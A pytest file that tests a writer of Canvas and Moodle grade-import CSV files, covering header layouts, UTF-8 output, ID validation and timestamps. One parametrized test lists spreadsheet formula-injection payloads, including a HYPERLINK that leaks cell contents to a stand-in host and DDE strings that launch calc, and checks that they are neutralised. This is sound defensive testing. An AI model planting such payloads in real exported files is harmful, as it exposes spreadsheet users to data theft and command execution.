"""Grade import files for Canvas and Moodle, from an LMS download's file names back to the LMS."""

import csv
from datetime import datetime, timezone

import pytest

from lossedu.classroom.lms import parse_submission_path
from lossedu.classroom.lms_export import GradeRow, write_lms_files

GRADED_AT = datetime(2026, 12, 3, 12, 40, 5, tzinfo=timezone.utc)

# The layouts the LMSs document (see lossedu/classroom/lms_export.py for the sources).
CANVAS_HEADER_START = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
MOODLE_HEADER = ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade",
                 "Grade can be changed", "Last modified (submission)", "Last modified (grade)",
                 "Feedback comments"]

# An LMS download of one lesson: the path inside the zip, and the score it got.
DOWNLOAD = [
    ("smithjane_123456_7890123_01-loss-vs-cost.ipynb", 7.5),
    ("doejohn_LATE_98_76_01-loss-vs-cost-1.ipynb", 10),
    ("Jane Smith_4021_assignsubmission_file_/01-loss-vs-cost.ipynb", 8),
    ("José Núñez_77_assignsubmission_file_/01-loss-vs-cost.ipynb", 0),
    ("alice.ipynb", 4),
]


def rows_from_download(download=DOWNLOAD, max_score=10.0, comment=""):
    rows = []
    for path, score in download:
        parsed = parse_submission_path(path)
        rows.append(GradeRow(learner=parsed.learner_id, name=parsed.name, score=score,
                             max_score=max_score, lms=parsed.lms, comment=comment))
    return rows


def read(path):
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def test_round_trip_from_an_lms_download(tmp_path):
    written = write_lms_files(tmp_path, "Loss vs cost", rows_from_download(),
                              canvas_assignment="98765", graded_at=GRADED_AT)
    assert written == [tmp_path / "canvas_grades.csv", tmp_path / "moodle_grades.csv"]

    canvas = read(tmp_path / "canvas_grades.csv")
    assert canvas == [
        CANVAS_HEADER_START + ["Loss vs cost (98765)"],
        ["Points Possible", "", "", "", "", "10"],
        # ID is the Canvas user id (not the submission id after it)
        ["smithjane", "123456", "", "", "", "7.5"],
        ["doejohn", "98", "", "", "", "10"],
    ]

    moodle = read(tmp_path / "moodle_grades.csv")
    assert moodle == [
        MOODLE_HEADER,
        ["Participant 4021", "Jane Smith", "", "", "8", "10", "Yes", "",
         "2026-12-03T12:40:05+00:00", ""],
        ["Participant 77", "José Núñez", "", "", "0", "10", "Yes", "",
         "2026-12-03T12:40:05+00:00", ""],
    ]
    # the plain notebook has no LMS id and is in neither file
    text = (tmp_path / "canvas_grades.csv").read_text("utf-8") + (
        tmp_path / "moodle_grades.csv").read_text("utf-8")
    assert "alice" not in text


def test_files_are_utf8_without_bom_and_fully_quoted(tmp_path):
    write_lms_files(tmp_path, "Loss vs cost", rows_from_download(), graded_at=GRADED_AT)
    raw = (tmp_path / "moodle_grades.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert raw.startswith(b'"Identifier","Full name",')
    assert "José Núñez".encode() in raw
    assert (tmp_path / "canvas_grades.csv").read_bytes().startswith(b'"Student","ID",')


@pytest.mark.parametrize("canvas_assignment, header", [
    (None, "Loss vs cost"),                   # matched by title, or a new assignment
    ("98765", "Loss vs cost (98765)"),        # the id from the assignment's URL
    (" 98765 ", "Loss vs cost (98765)"),
    ("Week 1 (555)", "Week 1 (555)"),         # a header copied from a Canvas export
])
def test_canvas_assignment_column(tmp_path, canvas_assignment, header):
    write_lms_files(tmp_path, "Loss vs cost", rows_from_download(),
                    canvas_assignment=canvas_assignment)
    assert read(tmp_path / "canvas_grades.csv")[0][-1] == header


def test_a_title_canvas_would_read_as_an_id_needs_the_assignment(tmp_path):
    with pytest.raises(ValueError, match="pass canvas_assignment"):
        write_lms_files(tmp_path, "Loss vs cost (2026)", rows_from_download())
    write_lms_files(tmp_path, "Loss vs cost (2026)", rows_from_download(), canvas_assignment="5")
    assert read(tmp_path / "canvas_grades.csv")[0][-1] == "Loss vs cost (2026) (5)"


def test_only_the_lms_files_that_apply_are_written(tmp_path):
    canvas_only = [row for row in rows_from_download() if row.lms != "moodle"]
    assert write_lms_files(tmp_path / "a", "Loss vs cost", canvas_only) == [
        tmp_path / "a" / "canvas_grades.csv"]
    moodle_only = [row for row in rows_from_download() if row.lms != "canvas"]
    assert write_lms_files(tmp_path / "b", "Loss vs cost", moodle_only) == [
        tmp_path / "b" / "moodle_grades.csv"]
    plain_only = [row for row in rows_from_download() if row.lms == "plain"]
    assert write_lms_files(tmp_path / "c", "Loss vs cost", plain_only) == []
    assert not (tmp_path / "c").exists()


@pytest.mark.parametrize("dangerous", [
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
])
def test_spreadsheet_formulas_are_neutralized(tmp_path, dangerous):
    rows = [GradeRow("123456", dangerous, 5, 10, "canvas"),
            GradeRow("4021", dangerous, 5, 10, "moodle", comment=dangerous)]
    write_lms_files(tmp_path, "Loss vs cost", rows, graded_at=GRADED_AT)
    canvas_row = read(tmp_path / "canvas_grades.csv")[2]
    moodle_row = read(tmp_path / "moodle_grades.csv")[1]
    assert canvas_row[0] == "'" + dangerous
    assert moodle_row[1] == "'" + dangerous
    for cell in canvas_row + moodle_row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_ordinary_names_are_unchanged(tmp_path):
    rows = [GradeRow("1", "Smith-Jones, Ann", 5, 10, "canvas"),
            GradeRow("2", 'O\'Neil, "JJ" Jane', 5, 10, "moodle",
                     comment="cost: 0 < 1 & done\nsee the notes")]
    write_lms_files(tmp_path, "Loss vs cost", rows, graded_at=GRADED_AT)
    assert read(tmp_path / "canvas_grades.csv")[2][0] == "Smith-Jones, Ann"
    moodle_row = read(tmp_path / "moodle_grades.csv")[1]
    assert moodle_row[1] == 'O\'Neil, "JJ" Jane'
    # Moodle stores feedback comments as HTML
    assert moodle_row[-1] == "cost: 0 &lt; 1 &amp; done<br>see the notes"


def test_a_naive_grading_time_is_local_time(tmp_path):
    local = datetime(2026, 12, 3, 12, 40, 5)
    write_lms_files(tmp_path, "Loss vs cost", [GradeRow("2", "A", 5, 10, "moodle")],
                    graded_at=local)
    expected = local.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S+00:00")
    assert read(tmp_path / "moodle_grades.csv")[1][8] == expected


@pytest.mark.parametrize("rows, message", [
    ([GradeRow("alice", "Alice", 5, 10, "canvas")], "numeric Canvas user id"),
    ([GradeRow("Jane Smith", "Jane", 5, 10, "moodle")], "numeric Moodle participant id"),
    ([GradeRow("12", "A", 5, 10, "canvas"), GradeRow("12", "B", 6, 10, "canvas")], "appears twice"),
    ([GradeRow("12", "A", 11, 10, "canvas")], "between 0 and max_score"),
    ([GradeRow("12", "A", -1, 10, "moodle")], "between 0 and max_score"),
    ([GradeRow("12", "A", 5, 10, "blackboard")], "expected 'canvas', 'moodle' or 'plain'"),
    ([GradeRow("12", "A", 5, 10, "canvas"), GradeRow("13", "B", 5, 12, "canvas")],
     "different maximum scores"),
])
def test_bad_rows_are_refused(tmp_path, rows, message):
    with pytest.raises(ValueError, match=message):
        write_lms_files(tmp_path, "Loss vs cost", rows)
